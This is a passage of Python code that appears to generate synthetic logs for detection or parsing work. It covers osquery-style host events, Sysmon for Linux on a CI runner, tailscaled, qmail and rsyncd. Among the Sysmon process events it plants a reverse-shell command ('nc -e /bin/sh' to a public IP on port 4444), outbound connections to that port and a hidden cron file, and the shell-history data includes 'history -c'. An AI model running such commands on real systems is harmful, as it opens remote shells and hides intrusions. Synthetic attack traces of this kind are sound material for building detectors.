            snapshot("disk_usage", [{"path": p, "blocks": g.num(10 ** 6, 10 ** 8), "blocks_free": g.num(10 ** 5, 10 ** 7), "blocks_size": 4096, "type": t}
                                    for p, t in [("/", "ext4"), ("/var", "ext4"), ("/srv", "xfs")]])

    def keys():
        bump("authorized_keys")
        u = g.c(["deploy", "root", "ansible"])
        row("authorized_keys", {"algorithm": g.c(["ssh-ed25519", "ssh-rsa"]), "comment": g.c(["mkoch@laptop", "ansible@awx", "ci@gitlab-runner", ""]), "key": g.alnum(68, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
                                "key_file": f"/{'root' if u == 'root' else 'home/' + u}/.ssh/authorized_keys", "options": "", "uid": {"root": 0, "deploy": 1000, "ansible": 1001}[u]}, g.c(["added", "removed"]))

    def shell():
        bump("shell_history")
        u = g.c(["deploy", "mkoch", "root"])
        row("shell_history", {"command": g.c(["sudo systemctl status nginx", "tail -f /var/log/nginx/error.log", "df -h", "cd /srv/shop && git log -3", "htop", "sudo -i",
                                              "journalctl -u shop --since -1h", "cat /etc/passwd", "history -c"]), "history_file": f"/{'root' if u == 'root' else 'home/' + u}/.bash_history",
                              "time": 0, "uid": {"root": 0, "deploy": 1000, "mkoch": 1002}[u]}, "added")

    def docker():
        bump("docker_containers")
        row("docker_containers", {"command": g.c(["\"/docker-entrypoint.sh nginx -g 'daemon off;'\"", "\"redis-server --appendonly yes\"", "\"node dist/worker.js\""]),
                                  "created": int(epoch(L.t)) - g.num(0, 900), "id": g.hx(64), "image": g.c(["nginx:1.27-alpine", "redis:7.4", "registry.shop.example/shop/worker:2026.11.3"]),
                                  "image_id": "sha256:" + g.hx(64), "name": "/" + g.c(["shop-worker-1", "redis", "edge"]), "pid": g.num(1000, 90000), "state": "running",
                                  "status": f"Up {g.num(1, 59)} seconds"}, g.c(["added", "removed"]))

    T0 = L.t
    ev = [(28, proc), (18, sock), (3, ports), (3, login), (4, fim), (0.8, upgrade), (0.8, kmod), (0.6, cron), (2, snap), (0.8, keys), (3, shell), (1.2, docker)]
    return L.run(slowed(L, ev, 25), None)


# 13 --------------------------------------------------------------- Sysmon for Linux 1.3 on an Ubuntu 24.04 build agent (a CI runner for several teams), /var/log/syslog as rsyslog writes it there:
#   "2026-12-01T10:00:00.123456+00:00 ci-runner-03 sysmon: <Event><System>...</System><EventData>...</EventData></Event>" (RFC 3339 stamps); Sysmon's events as
#   one XML record a line (process create and terminate, network connect, file create and delete, its own state and configuration changes) among the
#   lines of the rest of the system: systemd starting the runner's job units, CRON, the GitLab runner, containerd, the kernel's apparmor and OOM lines
@checked
def log_sysmon(seed):
    L = Log("sysmon_linux_syslog", seed, "full", False, True)
    g = L.g
    HOST = "ci-runner-03"
    st = {"rec": g.num(100000, 900000), "pid": g.num(100000, 200000), "procs": [], "job": g.num(8000000, 9000000), "sysmon": g.num(700, 1200)}
    PGUID = lambda: "{" + f"{g.hx(8)}-{g.hx(4)}-{g.hx(4)}-{g.hx(4)}-{g.hx(12)}" + "}"
    RUNNER = "x" + g.alnum(7)
    BOOT = "{" + f"{g.hx(8)}-0000-0000-0000-000000000000" + "}"

    def line(prog, pid, msg, ev):
        L.t += dt.timedelta(microseconds=g.num(0, 300000))
        L.emit(f"{L.t:%Y-%m-%dT%H:%M:%S}.{us6(L.t)}+00:00 {HOST} {prog}{'[' + str(pid) + ']' if pid else ''}: {msg}", ev, None, prog)

    def sysmon_event(eid, task, data, ev):
        st["rec"] += 1
        L.t += dt.timedelta(microseconds=g.num(0, 200000))
        utc = f"{L.t:%Y-%m-%d %H:%M:%S}.{ms3(L.t)}"
        sys_ = (f'<System><Provider Name="Linux-Sysmon" Guid="{{ff032593-a8d3-4f13-b0d6-01fc615a0f97}}"/><EventID>{eid}</EventID><Version>{5 if eid == 1 else 2 if eid != 4 else 3}</Version>'
                f'<Level>4</Level><Task>{task}</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{L.t:%Y-%m-%dT%H:%M:%S}.{us6(L.t)}000Z"/>'
                f'<EventRecordID>{st["rec"]}</EventRecordID><Correlation/><Execution ProcessID="{st["sysmon"]}" ThreadID="{st["sysmon"]}"/><Channel>Linux-Sysmon/Operational</Channel>'
                f'<Computer>{HOST}</Computer><Security UserId="0"/></System>')
        body = "".join(f'<Data Name="{k}">{v}</Data>' for k, v in [("RuleName", "-"), ("UtcTime", utc)] + data)
        L.emit(f"{L.t:%Y-%m-%dT%H:%M:%S}.{us6(L.t)}+00:00 {HOST} sysmon: <Event>{sys_}<EventData>{body}</EventData></Event>", ev, None, "sysmon")

    def proc_create():
        st["pid"] += g.num(1, 60)
        guid = PGUID()
        image, cmd, cwd, user = g.c([("/usr/bin/git", "git fetch --prune --quiet origin +refs/heads/*:refs/remotes/origin/*", "/builds/shop/frontend", "gitlab-runner"),
                                     ("/usr/bin/docker", f"docker run --rm -v /builds:/builds node:22-alpine npm ci", "/builds/shop/frontend", "gitlab-runner"),
                                     ("/usr/bin/bash", "bash -c /scripts-12-" + str(g.num(100, 999)) + "/step_script", "/builds/shop/api", "gitlab-runner"),
                                     ("/usr/bin/curl", f"curl -sSfL https://gitlab.shop.example/api/v4/jobs/{st['job']}/artifacts", "/tmp", "gitlab-runner"),
                                     ("/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", "/", "_apt"), ("/usr/bin/tar", "tar -xzf cache.tgz", "/cache", "gitlab-runner"),
                                     ("/usr/sbin/runc", "runc --root /var/run/docker/runtime-runc/moby --log /run/containerd/io.containerd.runtime.v2.task/moby/" + g.hx(64) + "/log.json --log-format json create", "/run/containerd", "root"),
                                     ("/usr/bin/python3.12", "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers", "/", "root"),
                                     ("/usr/bin/nc", f"nc -e /bin/sh {g.ip('pub')} 4444", "/tmp", "gitlab-runner")])
        ppid = st["pid"] - g.num(1, 400)
        sysmon_event(1, 1, [("ProcessGuid", guid), ("ProcessId", st["pid"]), ("Image", image), ("FileVersion", "-"), ("Description", "-"), ("Product", "-"), ("Company", "-"),
                            ("OriginalFileName", "-"), ("CommandLine", cmd), ("CurrentDirectory", cwd), ("User", user), ("LogonGuid", BOOT), ("LogonId", {"root": 0, "_apt": 42}.get(user, 998)),
                            ("TerminalSessionId", g.c([4294967295, 3])), ("IntegrityLevel", "no level"), ("Hashes", "SHA256=" + g.hx(64)), ("ParentProcessGuid", PGUID()),
                            ("ParentProcessId", ppid), ("ParentImage", g.c(["/usr/bin/gitlab-runner", "/usr/bin/bash", "/usr/bin/containerd-shim-runc-v2", "/usr/lib/systemd/systemd"])),
                            ("ParentCommandLine", g.c(["/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner --config /etc/gitlab-runner/config.toml --service gitlab-runner --user gitlab-runner", "bash", "/usr/bin/containerd-shim-runc-v2 -namespace moby -id " + g.hx(64) + " -address /run/containerd/containerd.sock"])),
                            ("ParentUser", g.c(["gitlab-runner", "root"]))], "sysmon_1_process_create")
        st["procs"].append((guid, st["pid"], image, user))

    def proc_term():
        if not st["procs"]:
            return proc_create()
        guid, pid, image, user = st["procs"].pop(g.num(0, len(st["procs"]) - 1))
        sysmon_event(5, 5, [("ProcessGuid", guid), ("ProcessId", pid), ("Image", image), ("User", user)], "sysmon_5_process_terminate")

    def net():
        if not st["procs"]:
            return proc_create()
        guid, pid, image, user = g.c(st["procs"])
        dst, port, name = g.c([("10.40.0.12", 443, "https"), ("10.40.0.20", 5000, "-"), (g.ip("pub"), 443, "https"), ("10.40.0.2", 53, "domain"), (g.ip("pub"), 4444, "-")])
        sysmon_event(3, 3, [("ProcessGuid", guid), ("ProcessId", pid), ("Image", image), ("User", user), ("Protocol", "udp" if port == 53 else "tcp"), ("Initiated", "true"),
                            ("SourceIsIpv6", "false"), ("SourceIp", "10.40.3.31"), ("SourceHostname", "-"), ("SourcePort", g.port()), ("SourcePortName", "-"),
                            ("DestinationIsIpv6", "false"), ("DestinationIp", dst), ("DestinationHostname", "-"), ("DestinationPort", port), ("DestinationPortName", name)], "sysmon_3_network_connect")

    def file_create():
        if not st["procs"]:
            return proc_create()
        guid, pid, image, user = g.c(st["procs"])
        fn = g.c([f"/builds/shop/frontend/node_modules/.cache/{g.alnum(12)}.json", f"/tmp/tmp.{g.alnum(10, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz')}",
                  f"/var/lib/docker/overlay2/{g.hx(64)}/diff/app/dist/main.{g.hx(8)}.js", "/etc/cron.d/.sync", f"/cache/shop/api/{g.hx(8)}/cache.zip"])
        if g.r.random() < 0.8:
            sysmon_event(11, 11, [("ProcessGuid", guid), ("ProcessId", pid), ("Image", image), ("TargetFilename", fn), ("CreationUtcTime", f"{L.t:%Y-%m-%d %H:%M:%S}.{ms3(L.t)}"), ("User", user)],
                         "sysmon_11_file_create")
        else:
            sysmon_event(23, 23, [("ProcessGuid", guid), ("ProcessId", pid), ("User", user), ("Image", image), ("TargetFilename", fn), ("Hashes", "SHA256=" + g.hx(64)),
                                  ("IsExecutable", "false"), ("Archived", "false")], "sysmon_23_file_delete")

    def job():
        st["job"] += g.num(1, 90)
        p = g.num(1000, 1200)
        line("gitlab-runner", p, f'Checking for jobs... received                       job={st["job"]} repo_url=https://gitlab.shop.example/shop/{g.c(["frontend", "api", "infra"])}.git runner={RUNNER}', "runner_received")
        for _ in range(g.num(2, 6)):
            proc_create()
        L.tick(60)
        ok = g.r.random() < 0.85
        line("gitlab-runner", p, f'Job succeeded                                       duration_s={g.f(20, 900, 9)} job={st["job"]} project={g.num(10, 90)} runner={RUNNER}' if ok else
             f'Job failed: exit code 1                             duration_s={g.f(20, 900, 9)} job={st["job"]} project={g.num(10, 90)} runner={RUNNER}', "runner_succeeded" if ok else "runner_failed")
        line("gitlab-runner", p, f'Submitting job to coordinator...{"ok" if g.r.random() < 0.95 else "failed"}                  bytesize={g.num(1000, 900000)} code=200 job={st["job"]} job-status={"success" if ok else "failed"} runner={RUNNER} update-interval=0s', "runner_submitting")

    def systemd():
        u = g.c([("docker-" + g.hx(64) + ".scope", "libcontainer container " + g.hx(64)), ("run-docker-runtime\\x2drunc-moby-" + g.hx(64) + "-runc.ABCD12.mount", None),
                 ("sysstat-collect.service", "system activity accounting tool"), ("phpsessionclean.service", None)])
        if u[1]:
            line("systemd", 1, f"Started {u[0]} - {u[1]}.", "systemd_started")
        line("systemd", 1, f"{u[0]}: Deactivated successfully.", "systemd_deactivated")
        if g.r.random() < 0.3:
            line("systemd", 1, f"{u[0]}: Consumed {g.f(0.1, 90, 3)}s CPU time, {g.num(1, 900)}.{g.num(0, 9)}M memory peak.", "systemd_consumed")

    def cron():
        line("CRON", g.num(10000, 90000), f"({g.c(['root', 'gitlab-runner'])}) CMD ({g.c(['command -v debian-sa1 > /dev/null && debian-sa1 1 1', '/usr/local/bin/docker-prune.sh >/dev/null 2>&1', 'test -x /etc/cron.daily/popularity-contest'])})", "cron_cmd")

    def containerd():
        line("containerd", g.num(800, 900), f'time="{L.t:%Y-%m-%dT%H:%M:%S}.{us6(L.t)}000Z" level=info msg="shim disconnected" id={g.hx(64)} namespace=moby', "containerd_shim_disconnected")
        if g.r.random() < 0.5:
            line("containerd", g.num(800, 900), f'time="{L.t:%Y-%m-%dT%H:%M:%S}.{us6(L.t)}000Z" level=warning msg="cleaning up after shim disconnected" id={g.hx(64)} namespace=moby', "containerd_cleaning_up")

    def kernel():
        r = g.r.random()
        if r < 0.6:
            line("kernel", None, f"[{g.f(10000, 900000, 6):>12}] docker0: port {g.num(1, 9)}(veth{g.hx(7)}) entered {g.c(['blocking', 'forwarding', 'disabled'])} state", "kernel_docker_port")
        elif r < 0.9:
            line("kernel", None, f'[{g.f(10000, 900000, 6):>12}] audit: type=1400 audit({epoch(L.t):.3f}:{g.num(100, 9999)}): apparmor="DENIED" operation="open" class="file" profile="docker-default" name="/proc/sys/kernel/{g.c(["shmmax", "perf_event_paranoid"])}" pid={g.num(1000, 90000)} comm="{g.c(["node", "java", "python3"])}" requested_mask="r" denied_mask="r" fsuid=0 ouid=0', "kernel_apparmor")
        else:
            line("kernel", None, f"[{g.f(10000, 900000, 6):>12}] Memory cgroup out of memory: Killed process {g.num(1000, 90000)} (node) total-vm:{g.num(10 ** 6, 9 * 10 ** 6)}kB, anon-rss:{g.num(10 ** 6, 4 * 10 ** 6)}kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:{g.num(1000, 9000)}kB oom_score_adj:0", "kernel_oom")

    def sysmon_state():
        line("systemd", 1, "Stopping sysmon.service - Sysmon event logger...", "systemd_stopping")
        sysmon_event(4, 4, [("State", "Stopped"), ("Version", "1.3.3"), ("SchemaVersion", "4.81")], "sysmon_4_state_changed")
        line("systemd", 1, "sysmon.service: Deactivated successfully.", "systemd_deactivated")
        L.tick(2)
        line("systemd", 1, "Started sysmon.service - Sysmon event logger.", "systemd_started")
        st["sysmon"] = g.num(1000, 90000)
        sysmon_event(4, 4, [("State", "Started"), ("Version", "1.3.3"), ("SchemaVersion", "4.81")], "sysmon_4_state_changed")
        sysmon_event(16, 16, [("Configuration", "/opt/sysmon/config.xml"), ("ConfigurationFileHash", "SHA256=" + g.hx(64))], "sysmon_16_config_changed")

    ev = [(30, proc_create), (26, proc_term), (14, net), (12, file_create), (3, job), (6, systemd), (2, cron), (3, containerd), (3, kernel), (0.1, sysmon_state)]
    return L.run(slowed(L, ev, 6), None)


# 14 --------------------------------------------------------------- Tailscale 1.76 (tailscaled, the Debian package) on a home-lab server that is a subnet router and exit node of a family tailnet,
#   `journalctl -u tailscaled`: "Dec 01 10:00:00 homelab tailscaled[812]: magicsock: disco: node [AbC12] d:4f2a8e9c1b3d5e7f now using ..." (no level; most lines
#   start with the subsystem that wrote them: magicsock, wgengine, netcheck, control, dns, health, logtail, peerapi); peers found directly or through DERP,
#   the WireGuard reconfigurations, the packet filter's Accept lines and [RATELIMIT] notes, link changes, netcheck reports, health warnings, log uploads
#   failing, DNS configuration, a restart with the start-up lines and systemd's
@checked
def log_tailscale(seed):
    L = Log("tailscaled_journal", seed, "noyear", False, True)
    g = L.g
    B = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    PEERS = [(f"[{g.alnum(5, B)}]", f"100.{g.num(64, 127)}.{g.num(0, 255)}.{g.num(1, 254)}", g.hx(16), n) for n in
             ["laptop-anna", "phone-anna", "phone-ben", "ipad", "desktop-ben", "oma-pc", "work-laptop", "pixel-7", "steamdeck", "rpi-garden"]]
    ME = "100.88.12.7"
    DERPS = [(4, "fra"), (14, "ams"), (2, "sfo"), (9, "dfw")]
    st = {"pid": g.num(700, 900), "derp": 4, "wan": g.ip("pub"), "peers": g.num(3, 9)}

    def t(msg, ev, sub=None, pid=None):
        L.t += dt.timedelta(milliseconds=g.num(0, 400))
        L.emit(f"{jts(L.t)} homelab tailscaled[{pid or st['pid']}]: {msg}", ev, None, f"{sub}|tailscaled" if sub else "tailscaled")

    def sd(msg, ev):
        L.emit(f"{jts(L.t)} homelab systemd[1]: {msg}", ev, None, "systemd")

    def peer():
        return g.c(PEERS)

    def disco():
        p = peer()
        if g.r.random() < 0.7:
            ep = g.c([f"192.168.178.{g.num(20, 90)}:41641", f"{g.ip('pub')}:{g.c([41641, g.port()])}", f"[2a02:8109:{g.hx(4)}:{g.hx(4)}::{g.hx(3)}]:41641"])
            t(f"magicsock: disco: node {p[0]} d:{p[2]} now using {ep} mtu=1360 tx={g.hx(12)}", "disco_now_using", "magicsock")
        else:
            t(f"magicsock: adding connection to derp-{g.c(DERPS)[0]} for {p[0]}", "adding_derp_connection", "magicsock")
            if g.r.random() < 0.3:
                t(f"magicsock: derp-{g.c(DERPS)[0]} does not know about peer {p[0]}, removing route", "derp_unknown_peer", "magicsock")

    def derp_idle():
        d = g.c(DERPS)
        t(f"magicsock: closing connection to derp-{d[0]} (idle), age {g.num(1, 59)}m{g.num(0, 59)}s", "closing_derp_idle", "magicsock")

    def reconfig():
        st["peers"] = max(1, min(len(PEERS), st["peers"] + g.c([-1, 1, 0])))
        t(f"wgengine: Reconfig: configuring userspace WireGuard config (with {st['peers']}/{len(PEERS) + 4} peers)", "reconfig_configuring", "wgengine")
        if g.r.random() < 0.4:
            t(f"wgengine: Reconfig: configuring router", "reconfig_router", "wgengine")
            t(f"wgengine: Reconfig: configuring DNS", "reconfig_dns", "wgengine")
            t(f"dns: Set: {{DefaultResolvers:[] Routes:{{}} SearchDomains:[tail4f2a9.ts.net] Hosts:{len(PEERS) + 4}}}", "dns_set", "dns")
            t(f"dns: Resolvercfg: {{Routes:{{.:[]}} Hosts:{len(PEERS) + 4} LocalDomains:[]}}", "dns_resolvercfg", "dns")
            t("dns: OScfg: {Nameservers:[100.100.100.100] SearchDomains:[tail4f2a9.ts.net] MatchDomains:[] Hosts:[]}", "dns_oscfg", "dns")
        t("wgengine: Reconfig done", "reconfig_done", "wgengine")

    def accept():
        p = peer()
        dport, proto = g.c([(22, "tcp"), (445, "tcp"), (8096, "tcp"), (443, "tcp"), (53, "udp"), (3389, "tcp"), (8123, "tcp")])
        n = g.num(1, 5)
        for _ in range(n):
            t(f"Accept: {proto.upper()}{{{p[1]}:{g.port()} > {ME}:{dport}}} {60 if proto == 'tcp' else g.num(40, 90)} {proto} ok", "accept")
        if n >= 4 and g.r.random() < 0.5:
            t('[RATELIMIT] format("Accept: %s")', "ratelimit")
            L.tick(10)
            t(f'[RATELIMIT] format("Accept: %s") ({g.num(1, 40)} dropped)', "ratelimit_dropped")

    def drop():
        p = peer()
        t(f"Drop: TCP{{{p[1]}:{g.port()} > {ME}:{g.c([5432, 6379, 9090, 2049])}}} 60 no rules matched", "drop")

    def netcheck():
        ds = g.r.sample(DERPS, 3)
        st["derp"] = ds[0][0]
        t(f"netcheck: report: udp=true v6=false v6os=true mapvarydest=false portmap=? v4a={st['wan']}:41641 derp={ds[0][0]} derpdist=" + ",".join(f"{d[0]}v4:{g.num(8, 190)}ms" for d in ds), "netcheck_report", "netcheck")

    def link():
        t(f"LinkChange: major, rebinding. New state: interfaces.State{{defaultRoute=enp3s0 ifs={{enp3s0:[192.168.178.{g.num(2, 9)}/24 llu6] tailscale0:[100.88.12.7/32 llu6]}} v4=true v6=false}}", "link_change")
        st["wan"] = g.ip("pub")
        t(f"magicsock: endpoints changed: {st['wan']}:41641 (stun), 192.168.178.5:41641 (local), 172.17.0.1:41641 (local)", "endpoints_changed", "magicsock")
        netcheck()
        t(f"control: NetInfo: NetInfo{{varies=false hairpin= ipv6=false ipv6os=true udp=true icmpv4=false derp=#{st['derp']} portmap= link=\"\" firewallmode=\"ipt-default\"}}", "control_netinfo", "control")

    def health():
        r = g.r.random()
        if r < 0.5:
            t('health(warnable=not-in-map-poll): error: Unable to connect to the Tailscale coordination server to synchronize the state of your tailnet. Peer reachability might degrade over time.', "health_error", "health")
            L.tick(20)
            t("health(warnable=not-in-map-poll): ok", "health_ok", "health")
        else:
            t(f"health(warnable=no-derp-home): error: Tailscale could not connect to the relay server in {g.c(['Frankfurt', 'Amsterdam'])}. The server might be temporarily unavailable, or your Internet connection might be down.", "health_error", "health")
            t("health(warnable=no-derp-home): ok", "health_ok", "health")

    def logtail():
        if g.r.random() < 0.7:
            t(f'logtail: upload: log upload of {g.num(1000, 90000)} bytes compressed failed: Post "https://log.tailscale.com/c/tailnode.log.tailscale.io/{g.hx(64)}": context deadline exceeded', "logtail_upload_failed", "logtail")
        else:
            t(f'logtail: dialed "log.tailscale.com" in {g.num(20, 900)}ms', "logtail_dialed", "logtail")

    def control():
        r = g.r.random()
        if r < 0.5:
            t("control: netmap: got new dial plan from control", "dial_plan", "control")
        else:
            t(f"control: controlhttp: forcing port 443 dial due to recent noise dial", "forcing_443", "control")

    def home_derp():
        d = g.c(DERPS[:2])
        t(f"magicsock: home is now derp-{d[0]} ({d[1]})", "home_derp", "magicsock")
        t(f"magicsock: derp-{d[0]} connected; connGen={g.num(1, 9)}", "derp_connected", "magicsock")

    def restart():
        sd("Stopping tailscaled.service - Tailscale node agent...", "systemd_stopping")
        t("tailscaled got signal terminated; shutting down", "got_signal")
        t("control: client.Shutdown()", "control_shutdown", "control")
        t("flushing log.", "flushing_log")
        t("logger closing down", "logger_closing")
        sd("tailscaled.service: Deactivated successfully.", "systemd_deactivated")
        L.tick(3)
        sd("Starting tailscaled.service - Tailscale node agent...", "systemd_starting")
        st["pid"] = g.num(1000, 90000)
        t("logtail started", "logtail_started", "logtail")
        t('Program starting: v1.76.6-t2a7b8f93e-g4d1e5c0a9, Go 1.23.3: []string{"/usr/sbin/tailscaled", "--state=/var/lib/tailscale/tailscaled.state", "--socket=/run/tailscale/tailscaled.sock", "--port=41641"}', "program_starting")
        t(f"LogID: {g.hx(64)}", "logid")
        t('logpolicy: using system state directory "/var/lib/tailscale"', "logpolicy", "logpolicy")
        t(f"wgengine.NewUserspaceEngine(tun \"tailscale0\") ...", "new_userspace_engine")
        t("router: using firewall mode pref ", "router_fw_mode", "router")
        t("router: default choosing iptables", "router_iptables", "router")
        t("dns: using \"direct\" mode", "dns_mode", "dns")
        t(f"link state: interfaces.State{{defaultRoute=enp3s0 ifs={{enp3s0:[192.168.178.5/24 llu6]}} v4=true v6=false}}", "link_state")
        t("magicsock: disco key = d:" + g.hx(16), "disco_key", "magicsock")
        t("Start", "start")
        t(f"Backend: logs: be:{g.hx(64)} fe:", "backend_logs")
        t("Switching ipn state NoState -> Starting (WantRunning=true, nm=false)", "switching_state")
        t(f"control: control server key from https://controlplane.tailscale.com: ts2021=[{g.alnum(5, B)}], legacy=[{g.alnum(5, B)}]", "control_server_key", "control")
        t(f"control: RegisterReq: onode= node=[{g.alnum(5, B)}] fup=false nks=false", "register_req", "control")
        t("control: RegisterReq: got response; nodeKeyExpired=false, machineAuthorized=true; authURL=false", "register_resp", "control")
        sd("Started tailscaled.service - Tailscale node agent.", "systemd_started")
        t(f"peerapi: serving on http://{ME}:{g.port()}", "peerapi_serving", "peerapi")
        t("Switching ipn state Starting -> Running (WantRunning=true, nm=true)", "switching_state")
        reconfig()
        home_derp()

    restart()
    ev = [(22, disco), (4, derp_idle), (8, reconfig), (26, accept), (3, drop), (5, netcheck), (0.6, link), (1.5, health), (3, logtail), (2, control), (1, home_derp), (0.06, restart)]
    return L.run(slowed(L, ev, 25), None)


# 15 --------------------------------------------------------------- netqmail 1.06 on a small hosting provider's outgoing mail relay, the qmail-send log daemontools' multilog keeps in
#   /var/log/qmail/current: "@40000000692c8a8c1b2e3f40 message": the TAI64N label of when multilog read the line, then qmail-send's words ("new msg", "info msg
#   ...: bytes ... from <...> qp ... uid ...", "starting delivery", "delivery N: success/deferral/failure: ..." with qmail-remote's report and its underscores,
#   "end msg", "status: local a/b remote c/d", bounces and triple bounces, "alert:" lines); bursts from a mailing list, deferrals to greylisting hosts, a
#   queue restart
@checked
def log_qmail(seed):
    L = Log("qmail_send_multilog", seed, "full", False, False)
    g = L.g
    st = {"inode": g.num(1000000, 9000000), "dl": g.num(1000, 9000), "local": 0, "remote": 0, "pending": []}
    DOMAINS = ["gmx.de", "web.de", "gmail.com", "t-online.de", "outlook.com", "yahoo.com", "example-kanzlei.de", "mail.ru", "posteo.de", "uni-example.de"]
    SENDERS = ["newsletter@verein-example.de", "noreply@shop-example.de", "info@baeckerei-example.de", "rechnung@hosting-example.net", "", "list-bounces@lists.example.org"]

    def tai(t):
        return f"@{(1 << 62) + int(epoch(t)) + 10:016x}{t.microsecond * 1000 + g.num(0, 999):08x}"

    def q(msg, ev):
        L.t += dt.timedelta(microseconds=g.num(0, 30000))
        L.emit(f"{tai(L.t)} {msg}", ev)

    def status():
        q(f"status: local {st['local']}/10 remote {st['remote']}/20", "status")

    def new_msg(n_rcpt=None, sender=None):
        st["inode"] += g.num(1, 400)
        m = st["inode"]
        sender = g.c(SENDERS) if sender is None else sender
        q(f"new msg {m}", "new_msg")
        q(f"info msg {m}: bytes {g.num(900, 400000)} from <{sender}> qp {g.num(1000, 60000)} uid {g.c([89, 89, 1001, 1005])}", "info_msg")
        for _ in range(n_rcpt or g.c([1, 1, 1, 2, 3])):
            deliver(m)
        return m

    def deliver(m):
        st["dl"] += 1
        d = st["dl"]
        if g.r.random() < 0.08:
            rcpt = g.c(["relay.hosting-example.net-postmaster@relay.hosting-example.net", "relay.hosting-example.net-root@relay.hosting-example.net"])
            st["local"] = min(10, st["local"] + 1)
            q(f"starting delivery {d}: msg {m} to local {rcpt}", "starting_delivery")
            status()
            st["pending"].append((d, m, "local"))
            return
        rcpt = f"{g.c(['anna', 'k.meier', 'info', 'buchhaltung', 'max.mustermann', 'j.schulz', 'kontakt', 'office'])}{g.c(['', str(g.num(1, 99))])}@{g.c(DOMAINS)}"
        st["remote"] = min(20, st["remote"] + 1)
        q(f"starting delivery {d}: msg {m} to remote {rcpt}", "starting_delivery")
        status()
        st["pending"].append((d, m, rcpt))

    def result():
        if not st["pending"]:
            return new_msg()
        d, m, rcpt = st["pending"].pop(0)
        if rcpt == "local":
            st["local"] = max(0, st["local"] - 1)
            q(f"delivery {d}: success: did_0+0+1/", "delivery_success")
            status()
            if not any(p[1] == m for p in st["pending"]):
                q(f"end msg {m}", "end_msg")
            return
        st["remote"] = max(0, st["remote"] - 1)
        dom = rcpt.split("@")[1]
        ip = g.ip("pub")
        r = g.r.random()
        if r < 0.78:
            q(f"delivery {d}: success: {ip}_accepted_message./Remote_host_said:_250_2.0.0_Ok:_queued_as_{g.HX(10)}/", "delivery_success")
        elif r < 0.92:
            why = g.c([f"Connected_to_{ip}_but_greeting_failed./Remote_host_said:_421_4.7.0_{dom}_Service_not_available,_closing_transmission_channel/",
                       f"Connected_to_{ip}_but_sender_was_rejected./Remote_host_said:_451_4.7.1_Greylisting_in_action,_please_come_back_later/",
                       f"Connected_to_{ip}_but_connection_died._(#4.4.2)/", f"Sorry,_I_wasn't_able_to_establish_an_SMTP_connection._(#4.4.1)/",
                       f"Connected_to_{ip}_but_recipient_was_rejected./Remote_host_said:_452_4.2.2_Mailbox_full/"])
            q(f"delivery {d}: deferral: {why}", "delivery_deferral")
        else:
            why = g.c([f"{ip}_does_not_like_recipient./Remote_host_said:_550_5.1.1_<{rcpt}>:_Recipient_address_rejected:_User_unknown_in_virtual_mailbox_table/Giving_up_on_{ip}./",
                       f"Sorry,_I_couldn't_find_any_host_named_{dom}._(#5.1.2)/", f"{ip}_does_not_like_recipient./Remote_host_said:_554_5.7.1_Service_unavailable;_Client_host_[{g.ip('pub')}]_blocked_using_zen.spamhaus.org/Giving_up_on_{ip}./"])
            q(f"delivery {d}: failure: {why}", "delivery_failure")
            if g.r.random() < 0.7:
                q(f"bounce msg {m} qp {g.num(1000, 60000)}", "bounce_msg")
                new_msg(1, "")
        status()
        if not any(p[1] == m for p in st["pending"]):
            q(f"end msg {m}", "end_msg")

    def mailing_list():
        m = new_msg(g.num(8, 30), "list-bounces@lists.example.org")
        for _ in range(g.num(4, 20)):
            result()

    def triple():
        st["inode"] += 1
        m = st["inode"]
        q(f"new msg {m}", "new_msg")
        q(f"info msg {m}: bytes {g.num(900, 9000)} from <#@[]> qp {g.num(1000, 60000)} uid 89", "info_msg")
        q(f"triple bounce: discarding bounce/{m}", "triple_bounce")
        q(f"end msg {m}", "end_msg")

    def alert():
        r = g.r.random()
        if r < 0.5:
            q(f"alert: unable to append to bounce message; HELP! sleeping...", "alert_append_bounce")
        elif r < 0.8:
            q(f"warning: trouble opening local/{g.num(0, 22)}/{st['inode']}; will try again later", "warning_trouble_opening")
        else:
            q(f"alert: oh no! lost spawn connection! dying...", "alert_lost_spawn")

    def restart():
        q("status: exiting", "status_exiting")
        L.tick(4)
        st["local"] = st["remote"] = 0
        st["pending"] = []
        q("status: local 0/10 remote 0/20", "status")

    q("status: local 0/10 remote 0/20", "status")
    ev = [(22, new_msg), (44, result), (0.8, mailing_list), (0.5, triple), (0.3, alert), (0.05, restart)]
    return L.run(slowed(L, ev, 20), None)


# 16 --------------------------------------------------------------- rsync 3.2.7 in daemon mode on a storage server that takes the nightly pushes of a web agency's servers and serves a
#   read-only mirror, /var/log/rsyncd.log with "transfer logging = yes" and the default "log format = %o %h [%a] %m (%u) %f %l": "2026/12/01 10:00:00 [4711]
#   message" (local time, UTC on this host, and the pid of the serving process); connections, module access, one line per file sent or received,
#   the totals, failed logins and unknown modules from scanners, I/O errors, timeouts, files that vanished, a daemon restart
@checked
def log_rsyncd(seed):
    L = Log("rsyncd_log", seed, "full", False, False, start=dt.datetime(2026, 12, 1, 0, 30, 0, tzinfo=UTC))
    g = L.g
    CLIENTS = [("web-01.agency.example", "10.0.4.21", "backups", "web01"), ("web-02.agency.example", "10.0.4.22", "backups", "web02"),
               ("db-01.agency.example", "10.0.4.31", "dbdumps", "db01"), ("mail.agency.example", "10.0.4.40", "backups", "mail"),
               ("mirror-client.partner.example", "198.51.100.23", "mirror", "")]
    FILES = {"backups": ["var/www/{site}/wp-content/uploads/2026/11/{img}.jpg", "var/www/{site}/wp-content/uploads/2026/12/{img}-{w}x{h}.webp", "etc/nginx/sites-available/{site}.conf",
                         "var/www/{site}/wp-content/plugins/{plugin}/readme.txt", "var/lib/letsencrypt/renewal/{site}.conf", "var/www/{site}/.git/objects/{h2}/{h38}"],
             "dbdumps": ["mysql/{db}/{db}-2026-12-01.sql.zst", "mysql/{db}/binlog.{bin:06d}", "postgresql/{db}.dump"],
             "mirror": ["debian/pool/main/{l}/{pkg}/{pkg}_{v}_amd64.deb", "debian/dists/bookworm-updates/main/binary-amd64/Packages.xz", "debian/project/trace/mirror.agency.example"]}
